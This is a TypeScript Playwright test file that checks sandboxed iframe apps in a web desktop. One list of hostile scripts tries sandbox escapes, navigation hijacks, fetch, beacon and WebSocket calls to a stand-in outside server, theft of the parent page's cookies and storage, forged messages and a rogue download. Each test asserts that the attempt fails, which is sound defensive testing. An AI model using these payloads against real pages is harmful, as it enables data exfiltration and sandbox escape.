// Apps of the data folder in their wrapper: what a good one can do, and what a hostile one cannot.

import type { Browser } from 'playwright-core';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server as Listener } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';

import { openDesktop, startBrowser, violations, windowOf, type Watched } from './browser';
import { Server, type Agent } from './server';

let server: Server;
let browser: Browser;
let agent: Agent;
let seen: Watched;
/** Somebody else on the network, and whatever reached them. */
let outside: Listener;
let reached: string[] = [];
let there = '';

beforeAll(async () => {
  outside = createServer((request, answer) => {
    reached.push(`${request.method} ${request.url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('<title>outside</title>outside');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  there = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  server = await Server.start();
  browser = await startBrowser();
  agent = await server.agent('maker');
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
  outside?.close();
});
beforeEach(async () => {
  reached = [];
  seen = await openDesktop(browser, server.link);
});
afterEach(async () => {
  await seen.context.close();
  await Promise.all([...opened].map((windowId) => agent.try({ type: 'window.close', windowId })));
  opened.clear();
});
const opened = new Set<string>();
/** Beside the apps. */
const beside = { bounds: { x: 700, y: 60, w: 400, h: 260 } };

/** Puts an app into the data folder. */
async function make(id: string, files: Record<string, string>): Promise<void> {
  const folder = path.join(server.folder, 'apps', id);
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'app.json'), JSON.stringify({ name: id, agent: 'maker' }));
  for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
}

const head = '<!doctype html><html lang="en"><meta charset="utf-8"><title>x</title>';

/** Opens an app with this script in a window. */
async function open(id: string, script: string, more = ''): Promise<void> {
  await make(id, {
    'index.html': `${head}${more}<p id="out">ready</p><script src="fingertip.js"></script><script>${script}</script></html>`,
  });
  await show(id);
}

async function show(id: string, more: Record<string, unknown> = {}): Promise<unknown> {
  opened.add(id);
  const data = { url: `/apps/${id}/index.html`, ...more };
  return agent.act({
    type: 'window.create',
    windowId: id,
    title: id,
    replace: true,
    bounds: { x: 40, y: 40, w: 500, h: 400 },
    content: { renderer: 'iframe', data },
    requestId: `r-${id}-${Math.random()}`,
  });
}

const inside = (id: string) => windowOf(seen.page, id).frameLocator('iframe').frameLocator('iframe');
/** What the app says of itself; `gone` when its document is. */
const said = (id: string) =>
  inside(id)
    .locator('#out')
    .textContent({ timeout: 1_000 })
    .catch(() => 'gone');

it('an app runs in a wrapper, in the desktop’s colours', async () => {
  await open('good', `fingertip.onTheme((theme) => { out.textContent = theme.scheme + ' ' + theme.colours.ink; });`);
  await expect.poll(() => said('good')).toMatch(/^light rgb\(/);
  await seen.page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => said('good')).toMatch(/^dark rgb\(/);
  const frame = windowOf(seen.page, 'good').locator('iframe');
  expect(await frame.getAttribute('sandbox')).toBe('allow-forms allow-scripts');
  expect(seen.trouble).toStrictEqual([]);
});

it('an app reports its errors, and the page says so and offers to reload', async () => {
  await open('faulty', `setTimeout(() => { throw new Error('out of ' + 'paper'); });`);
  const window = windowOf(seen.page, 'faulty');
  await window.getByText('The app reported an error: Uncaught Error: out of paper').waitFor();
  expect(await violations(seen.page)).toStrictEqual([]);
  await window.getByRole('button', { name: 'Reload' }).click();
  await expect.poll(() => said('faulty')).toBe('ready');
});

it('an app that is not there says so, to the person and to the agent', async () => {
  const answer = (await show('nowhere')) as { results: { feedback?: { ok: boolean; error?: string } }[] };
  expect(answer.results[0]?.feedback).toMatchObject({ ok: false, error: expect.stringContaining('404') });
  const window = windowOf(seen.page, 'nowhere');
  await window.getByRole('button', { name: 'Reload the app' }).waitFor();
  await make('nowhere', { 'index.html': `${head}<p id="out">here now</p></html>` });
  await window.getByRole('button', { name: 'Reload the app' }).click();
  await expect.poll(() => said('nowhere')).toBe('here now');
});

it('an app draws itself when an agent wants a picture', async () => {
  await open(
    'drawn',
    `fingertip.onCapture(({ width, height }) => {
       const canvas = document.createElement('canvas');
       Object.assign(canvas, { width, height });
       return canvas;
     });`,
  );
  const answer = await agent.act({ type: 'window.capture', windowId: 'drawn', requestId: 'c1' });
  expect(answer.results?.[0]?.feedback).toMatchObject({ ok: true });
  expect(answer.results?.[0]?.feedback?.partial).not.toBe(true);
});

// What a hostile app tries, as a script that says `failed` or why; and what the page says of it, if anything.
const attacks: { name: string; script: string; more?: string; notice?: RegExp }[] = [
  { name: 'top navigation', script: `try { top.location = 'THERE/top' } catch { } try { parent.location = 'THERE/parent' } catch { }` },
  { name: 'leaving', script: `location = 'THERE/self?secret'`, notice: /tried to open another page/ },
  { name: 'leaving by a link', script: `const a = document.createElement('a'); a.href = 'THERE/link'; document.body.append(a); a.click();`, notice: /tried to open another page/ },
  { name: 'leaving to data', script: `location = 'data:text/html,<script>top.location="THERE/data"</' + 'script>'`, notice: /tried to open another page/ },
  { name: 'leaving by refresh', script: '', more: `<meta http-equiv="refresh" content="0;url=THERE/refresh">`, notice: /tried to open another page/ },
  { name: 'framing', script: `for (const url of ['THERE/frame', 'data:text/html,<iframe src="THERE/deep"></iframe>']) { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }` },
  { name: 'fetch', script: `fetch('THERE/fetch', { mode: 'no-cors' }).catch(() => {}); const x = new XMLHttpRequest(); x.open('GET', 'THERE/xhr'); try { x.send() } catch { } navigator.sendBeacon('THERE/beacon', 'x');` },
  { name: 'pictures and styles', script: `new Image().src = 'THERE/img'; const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'THERE/css'; document.head.append(l); const s = document.createElement('script'); s.src = 'THERE/js'; document.head.append(s); const p = document.createElement('link'); p.rel = 'prefetch'; p.href = 'THERE/prefetch'; document.head.append(p);` },
  { name: 'workers', script: `new Worker(URL.createObjectURL(new Blob(['fetch("THERE/worker",{mode:"no-cors"}); importScripts("THERE/import")'])));` },
  { name: 'popup', script: `out.textContent = String(window.open('THERE/popup'));` },
  { name: 'form', script: `const f = document.createElement('form'); f.action = 'THERE/form'; f.method = 'post'; document.body.append(f); f.submit(); const g = document.createElement('form'); g.action = 'THERE/form2'; g.target = '_top'; document.body.append(g); g.submit();` },
  { name: 'websocket', script: `try { new WebSocket('THERE'.replace('http', 'ws')) } catch { }` },
  { name: 'event source', script: `try { new EventSource('THERE/events') } catch { }` },
  { name: 'download', script: `const a = document.createElement('a'); a.href = 'data:text/plain,hello'; a.download = 'evil.sh'; document.body.append(a); a.click();` },
  { name: 'the page', script: `let got = 'nothing'; for (const w of [parent, top]) { try { got = w.document.cookie } catch { } try { got = w.localStorage } catch { } } try { got = document.cookie } catch { } out.textContent = String(got);` },
  { name: 'titles and dialogs', script: `document.title = 'Signed out'; alert('x'); print(); try { top.document.title = 'evil' } catch { }` },
  { name: 'the server', script: `Promise.all(['/api/desktop', '/api/settings', '/api/session'].map((u) => fetch(u).then((r) => r.status, () => 'no'))).then((all) => { out.textContent = all.join() });` },
  { name: 'false mail', script: `for (const type of ['fingertip.wrapper', 'fingertip.capture', 'fingertip.port']) for (const w of [parent, top]) w.postMessage({ type }, '*', [new MessageChannel().port1]);` },
];

for (const { name, script, more = '', notice } of attacks) {
  it(`a hostile app gets nowhere: ${name}`, async () => {
    const id = name.replaceAll(' ', '-');
    const downloads: string[] = [];
    seen.page.on('download', (download) => downloads.push(download.url()));
    const windows = seen.context.pages().length;
    const mark = `;setTimeout(() => { if (out.textContent === 'ready') out.textContent = 'done' }, 600);`;
    await open(id, (script + mark).replaceAll('THERE', there), more.replaceAll('THERE', there));
    if (notice) await windowOf(seen.page, id).getByText(notice).waitFor();
    else await expect.poll(() => said(id)).not.toBe('ready');
    const text = notice ? undefined : await said(id);
    if (name === 'popup') expect(text).toBe('null');
    if (name === 'the page') expect(text).toBe('nothing');
    if (name === 'the server') expect(text).toMatch(/^(401|403|no),(401|403|no),(401|403|405|no)$/);
    expect(seen.page.url()).toBe(`${server.origin}/`);
    expect(await seen.page.title()).not.toMatch(/evil|Signed out/);
    expect(seen.context.pages().length).toBe(windows);
    expect(downloads).toStrictEqual([]);
    expect(seen.foreign).toStrictEqual([]);
    expect(reached).toStrictEqual([]);
    // What goes wrong inside of the app is the app's own business.
    expect(seen.trouble.filter((line) => line.startsWith('dialog: '))).toStrictEqual([]);
  });
}

it('an app that floods is stopped, whomever it writes to', async () => {
  const floods = {
    agent: `for (let i = 0; i < 5000; i += 1) fingertip.send(i).catch(() => {});`,
    wrapper: `for (let i = 0; i < 5000; i += 1) parent.postMessage({ type: 'fingertip.hello' }, '*');`,
    page: `setInterval(() => { for (let i = 0; i < 200; i += 1) top.postMessage('x'.repeat(1000), '*') }, 10);`,
  };
  for (const [whom, script] of Object.entries(floods)) {
    await open(`flood-${whom}`, script);
    const window = windowOf(seen.page, `flood-${whom}`);
    await window.getByText('it sent too many messages').waitFor();
    expect(await window.locator('iframe').count()).toBe(0);
  }
  // Everybody else goes on.
  opened.add('calm');
  await agent.open('calm', beside);
  await windowOf(seen.page, 'calm').getByText('Window calm').waitFor();
});

it('an app that hangs leaves the desktop alone, says so, and can be loaded again', async () => {
  await open('hang', `out.textContent = 'again'; if (!location.search) setTimeout(() => { for (;;); }, 300);`);
  const window = windowOf(seen.page, 'hang');
  await window.getByText('This app does not answer').waitFor({ timeout: 40_000 });
  opened.add('alive');
  await agent.open('alive', beside);
  await windowOf(seen.page, 'alive').getByText('Window alive').waitFor({ timeout: 5_000 });
  await make('hang', { 'index.html': `${head}<p id="out">mended</p></html>` });
  await window.getByRole('button', { name: 'Reload the app' }).click();
  await expect.poll(() => said('hang')).toBe('mended');
});

it('an app that takes all memory takes only itself', async () => {
  await open('greedy', `setTimeout(() => { const all = []; for (;;) all.push(new Uint8Array(64 << 20).fill(1)); }, 300);`);
  const window = windowOf(seen.page, 'greedy');
  await window.getByText(/This app (does not answer|was stopped)/).waitFor({ timeout: 50_000 });
  opened.add('spared');
  await agent.open('spared', beside);
  await windowOf(seen.page, 'spared').getByText('Window spared').waitFor({ timeout: 5_000 });
});
